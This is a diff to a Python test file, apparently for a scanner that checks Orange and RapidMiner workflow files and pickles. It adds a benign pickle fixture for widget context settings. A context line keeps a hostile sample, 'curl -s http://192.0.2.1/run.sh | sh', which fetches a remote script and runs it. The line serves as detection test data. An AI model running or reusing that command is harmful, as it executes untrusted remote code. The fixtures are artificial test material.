@@ -17,6 +17,19 @@ PIPE = "curl -s http://192.0.2.1/run.sh | sh"
 """Never run: the tests read text only."""
 SETTINGS = "{'savedWidgetGeometry': None, 'url': 'iris.tab', '__version__': 3}"
 SCRIPT = "{'scriptLibrary': [{'script': 'import numpy as np\\n%s\\nout_data = in_data\\n'}]}"
+CONTEXT = (
+    assembler.proto(4)
+    + assembler.stack_global("orangewidget.settings", "Context")
+    + assembler.EMPTY_TUPLE
+    + assembler.NEWOBJ
+    + assembler.EMPTY_DICT
+    + assembler.short("attribute")
+    + assembler.stack_global("Orange.data.variable", "ContinuousVariable")
+    + assembler.SETITEM
+    + assembler.BUILD
+    + assembler.STOP
+)
+"""What a widget keeps of a table that it was used with."""
 HARMLESS = assembler.proto(4) + b"}\x8c\x01aK\x01s" + assembler.STOP
 
 
@@ -56,6 +69,7 @@ settings = partial(case, name="settings.xml")
 CASES = {
     "benign": ows(lambda: orange(SETTINGS), verdict=Verdict.CLEAN),
     "benign_pickle": ows(lambda: orange(HARMLESS, "pickle"), verdict=Verdict.CLEAN),
+    "benign_contexts": ows(lambda: orange(CONTEXT, "pickle"), verdict=Verdict.CLEAN),
     "benign_script": ows(lambda: orange(SCRIPT % "x = np.load('a.npy')"), verdict=Verdict.CLEAN),
     "benign_process": rmp(
         lambda: rapidminer("concurrency:parallel_decision_tree", "criterion", "gain_ratio"), verdict=Verdict.CLEAN
